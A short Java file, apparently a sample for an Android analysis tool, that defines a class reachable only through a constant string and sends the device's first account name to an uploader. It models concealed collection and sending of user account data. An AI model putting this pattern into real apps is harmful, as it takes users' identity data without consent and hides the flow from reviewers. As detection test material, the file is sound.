package org.ringfence.sample;

import android.accounts.AccountManager;
import android.content.Context;

/** Nothing names this class but a constant string. */
public final class Hidden {
    private Hidden() {}

    public static void readAccounts(Context context) {
        Uploader.send("accounts", AccountManager.get(context).getAccounts()[0].name);
    }
}
